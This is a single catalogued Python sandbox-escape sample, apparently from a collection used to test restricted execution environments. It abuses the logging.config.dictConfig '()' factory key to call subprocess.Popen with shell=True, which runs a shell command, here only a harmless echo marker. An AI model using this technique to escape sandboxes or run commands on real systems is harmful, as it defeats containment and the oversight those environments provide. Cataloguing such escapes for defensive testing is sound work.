# escape: 021
# technique: logging.config.dictConfig '()' factory key calls any importable callable with keyword args
# family: deval
# goal: exec
# first-seen: Python docs warning (logging.config.listen), CVE reports on dictConfig
import logging.config
logging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'subprocess.Popen', 'args': 'echo ESCAPED:dictConfig', 'shell': True}}})
